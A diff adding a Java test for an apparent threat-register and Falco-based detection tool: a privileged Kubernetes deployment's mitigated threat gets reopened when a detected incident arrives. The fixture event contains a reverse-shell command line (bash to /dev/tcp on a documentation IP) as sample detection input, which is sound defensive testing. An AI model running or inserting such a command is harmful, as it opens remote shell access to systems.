@@ -58,6 +58,60 @@ class ThreatsCommandTest {
     }
 
     @Test
+    void anOpenIncidentReopensTheThreatThatItShowsUntilItIsResolved() throws Exception {
+        Files.writeString(root.resolve("deploy/checkout.yaml"), """
+                apiVersion: apps/v1
+                kind: Deployment
+                metadata: {name: checkout, namespace: shop}
+                spec:
+                  template:
+                    spec:
+                      serviceAccountName: checkout
+                      containers:
+                        - name: checkout
+                          image: registry.example/checkout@sha256:%s
+                          securityContext: {privileged: true}
+                          resources: {limits: {memory: 64Mi}}
+                """.formatted("1f".repeat(32)));
+        run("threats", "review", "--by", "kim@example.com", "--root", root.toString());
+        Path register = root.resolve("threats.yaml");
+        String answer = """
+                threats:
+                  - id: "powerful-workload: kubernetes/shop/deployment/checkout"
+                    status: mitigated
+                    reason: the node runs nothing else
+                    by: kim@example.com
+                    on: 2026-03-01
+                """;
+        Files.writeString(register, Files.readString(register).replaceFirst("(?m)^threats:.*\\R?", "") + answer);
+        CommandLineRun answered = run("threats", "check", root.toString());
+        assertThat(answered.code()).as(answered.out() + answered.err()).isZero();
+
+        Path events = Files.writeString(root.resolve("falco.jsonl"),
+                """
+                        {"rule":"x","time":"2026-03-01T10:00:00Z","output_fields":{"proc.name":"bash","proc.cmdline":"bash -i >& /dev/tcp/203.0.113.7/4444","container.image.digest":"sha256:%s","k8s.ns.name":"shop","k8s.pod.name":"checkout-7d9f5c-x2x"}}
+                        """
+                        .formatted("1f".repeat(32)));
+        String ledger = root.resolve("ledger").toString();
+        assertThat(run("detect", "--input", events.toString(), "--open-incidents", "--ledger", ledger).err())
+                .contains("incident opened: Shell connected to the network");
+        CommandLineRun reopened = run("threats", "check", "--ledger", ledger, root.toString());
+        assertThat(reopened.code()).as(reopened.out() + reopened.err()).isEqualTo(1);
+        assertThat(reopened.out()).contains("threat-powerful-workload");
+        assertThat(run("threats", "check", "--ledger", ledger, "--format", "json", root.toString()).out())
+                .contains("answered as mitigated by kim@example.com, re-opened by incident: Shell connected to the network");
+
+        for (int i = 0; i < 5 && run("incident", "list", "--ledger", ledger).code() == 1; i++) {
+            String id = run("incident", "list", "--ledger", ledger).out().lines().filter(line -> line.startsWith("open"))
+                    .findFirst().map(_ -> run("incident", "list", "--ledger", ledger).out()).orElseThrow();
+            String open = id.substring(id.indexOf("open "));
+            run("incident", "resolve", open.substring(open.indexOf("detection/1:"), open.indexOf(" on ")), "--reason", "rebuilt",
+                    "--ledger", ledger);
+        }
+        assertThat(run("threats", "check", "--ledger", ledger, root.toString()).code()).isZero();
+    }
+
+    @Test
     void theDiagramIsDrawnAsTextAndAsPicture() throws Exception {
         assertThat(run("threats", "diagram", "--root", root.toString()).out()).startsWith("flowchart LR\n")
                 .contains("{{\"shop\"}}");
